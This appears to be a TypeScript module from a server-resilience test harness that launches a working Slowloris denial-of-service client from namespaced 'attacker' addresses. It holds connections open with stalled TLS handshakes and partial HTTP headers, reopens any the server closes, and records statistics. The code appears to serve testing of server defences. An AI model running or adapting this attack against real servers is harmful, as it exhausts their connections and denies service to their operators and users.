import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { fileURLToPath } from 'node:url';
import { serveStats, startClient } from './client-process.ts';
import type { Network } from './network-namespace.ts';

type Options = { host: string; name: string; port: number; from: readonly string[]; count: number };
type Stats = {
  open: number;
  mostOpen: number;
  /** Closed by the server. */
  closed: number;
  /** The longest time the server kept one open. */
  longestMs: number;
};

/** Ways to leave a request incomplete; each stops at a different point. */
const techniques: Record<string, (where: { host: string; servername: string; port: number; localAddress: string }) => Socket> = {
  'no data': (where) => connect(where),
  // Header of a 512-byte TLS record.
  'partial TLS handshake': (where) => {
    const socket = connect(where);
    socket.write(Buffer.from('1603010200010001fc0303', 'hex'));
    return socket;
  },
  'partial header': (where) => {
    const socket = connectTls({ ...where, rejectUnauthorized: false });
    socket.once('secureConnect', () => socket.write(`GET / HTTP/1.1\r\nHost: ${where.servername}\r\nX-Half: `));
    return socket;
  },
};

async function hold(technique: () => Socket, stats: Stats): Promise<void> {
  const socket = technique();
  // A reset counts as a close.
  socket.on('error', () => {});
  socket.resume();
  let connectedAt = 0;
  socket.once('connect', () => {
    connectedAt = performance.now();
    stats.open += 1;
    stats.mostOpen = Math.max(stats.mostOpen, stats.open);
  });
  await new Promise((closed) => socket.once('close', closed));
  if (connectedAt === 0) return;
  stats.open -= 1;
  stats.closed += 1;
  stats.longestMs = Math.max(stats.longestMs, performance.now() - connectedAt);
}

/** Opens the connections over a few seconds, and reopens each one that the server closes. */
async function holdAll({ count, from, host, name, port }: Options, stats: Stats): Promise<void> {
  const kinds = Object.values(techniques);
  for (let number = 0; number < count; number += 1) {
    const localAddress = from[number % from.length] ?? '';
    const technique = kinds[number % kinds.length];
    if (!technique) return;
    void (async () => {
      for (;;) {
        await hold(() => technique({ host, servername: name, port, localAddress }), stats);
        await sleep(100);
      }
    })();
    // Beyond the kernel's accept backlog connections are refused before they reach nginx.
    if (number % 50 === 49) await sleep(25);
  }
}

/** Holds this many incomplete requests open until stopped. */
export const startSlowloris = (
  network: Network,
  { count, name = 'localhost', port }: { port: number; name?: string | undefined; count: number },
) =>
  startClient<Options, Stats>(network, fileURLToPath(import.meta.url), {
    host: network.host,
    name,
    from: network.attackers,
    port,
    count,
  });

if (import.meta.main) {
  serveStats<Options>((options) => {
    const stats: Stats = { open: 0, mostOpen: 0, closed: 0, longestMs: 0 };
    void holdAll(options, stats);
    return stats;
  });
}
